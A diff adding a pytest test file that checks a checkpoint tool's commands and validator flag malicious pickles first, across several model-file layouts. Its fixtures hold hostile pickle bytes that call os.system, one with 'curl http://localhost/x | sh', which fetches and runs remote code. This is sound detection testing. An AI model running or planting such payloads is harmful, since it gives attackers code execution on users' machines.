@@ -1,0 +1,109 @@
+"""What a pickle would run is said first, by every command and whatever else is wrong."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from ckpt_cli.app import main
+from core.checks.finding import HOSTILE
+from core.checks.level import Level
+from core.validate.run import validate
+from tests.hostile.cases import FOUR, METADATA, RUN, changed, text, torch_zip
+
+TEXT = b"cos\nsystem\n(S'curl http://localhost/x | sh'\ntR."
+"""A pickle of protocol 0: no signature, only printable characters."""
+BINARY = b"\x80\x02cos\nsystem\n" + text("true") + b"\x85R."
+MALFORMED = b"\x80\x02" + RUN + b"\x85R0K"
+"""The call comes before the byte at which the pickle breaks off."""
+WEIGHTS = b"\x80\x02}" + text("w") + FOUR + b"s."
+
+
+def one_file(name: str, data: bytes) -> Callable[[Path], Path]:
+    def make(folder: Path) -> Path:
+        (folder / name).write_bytes(data)
+        return folder / name
+
+    return make
+
+
+def beside_others(name: str, data: bytes, **others: bytes) -> Callable[[Path], Path]:
+    def make(folder: Path) -> Path:
+        for other, content in {name: data, **others}.items():
+            (folder / other).parent.mkdir(parents=True, exist_ok=True)
+            (folder / other).write_bytes(content)
+        return folder
+
+    return make
+
+
+INDEX = b'{"metadata": {}, "weight_map": {"w": "SHARD"}}'
+RANK = "iter_0000001/mp_rank_00/model_optim_rng.pt"
+CASES: dict[str, Callable[[Path], Path]] = {
+    **{f"text as {name}": one_file(name, TEXT) for name in ("a.pt", "a.bin", "a.ckpt", "a.pkl")},
+    **{f"malformed as {name}": one_file(name, MALFORMED) for name in ("a.pt", "a.bin", "a.pkl")},
+    "text as a safetensors file": one_file("model.safetensors", TEXT),
+    "a pickle as a safetensors file": one_file("model.safetensors", BINARY),
+    "text as a shard": beside_others(
+        "pytorch_model-00001-of-00001.bin",
+        TEXT,
+        **{
+            "pytorch_model.bin.index.json": INDEX.replace(
+                b"SHARD", b"pytorch_model-00001-of-00001.bin"
+            )
+        },
+    ),
+    "text as a safetensors shard": beside_others(
+        "model-00001-of-00001.safetensors",
+        TEXT,
+        **{
+            "model.safetensors.index.json": INDEX.replace(
+                b"SHARD", b"model-00001-of-00001.safetensors"
+            )
+        },
+    ),
+    "text as metadata": beside_others(".metadata", TEXT),
+    "a pickle as metadata": beside_others(".metadata", BINARY),
+    "malformed metadata": beside_others(".metadata", MALFORMED),
+    "metadata with bytes behind": beside_others(".metadata", METADATA + BINARY),
+    "text as a rank file": beside_others(RANK, TEXT),
+    "a rank file without arguments": beside_others(
+        RANK, torch_zip(b"\x80\x02}" + text("x") + BINARY[2:-1] + b"s.")
+    ),
+    "a malformed rank file": beside_others(RANK, torch_zip(MALFORMED)),
+    "text as the common state": changed("torch_dist", **{"common.pt": TEXT}),
+    "text as DeepSpeed's states": beside_others(
+        "global_step1/mp_rank_00_model_states.pt", TEXT, latest=b"global_step1"
+    ),
+}
+VERBS = {
+    "inspect": ["inspect", "SRC"],
+    "convert": ["convert", "SRC", "DST", "--to", "torch"],
+    "manifest": ["manifest", "SRC", "-o", "DST"],
+    "diff": ["diff", "SRC", "SRC"],
+    "merge": ["merge", "SRC", "SRC", "-o", "DST", "--average"],
+}
+
+
+@pytest.mark.parametrize("case", CASES)
+def test_a_pickle_that_runs_code_is_named_before_everything_else(
+    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "src").mkdir()
+    source = CASES[case](tmp_path / "src")
+    words = {"SRC": str(source), "DST": str(tmp_path / "out")}
+    for verb, line in VERBS.items():
+        code = main([words.get(word, word) for word in line])
+        err = capsys.readouterr().err
+        assert code == 5, (verb, err)
+        assert "which would run code" in err.splitlines()[0], verb
+        for advice in ("again", "login", "older", "download"):
+            assert advice not in err.partition("hint:")[2], (verb, err)
+    for level in (Level.METADATA, Level.HEADERS, Level.DEEP):
+        findings = validate(source, level=level).findings
+        assert findings[0].code in HOSTILE, findings
+        for finding in findings:
+            if finding.file == findings[0].file:
+                assert finding.hint == findings[0].hint
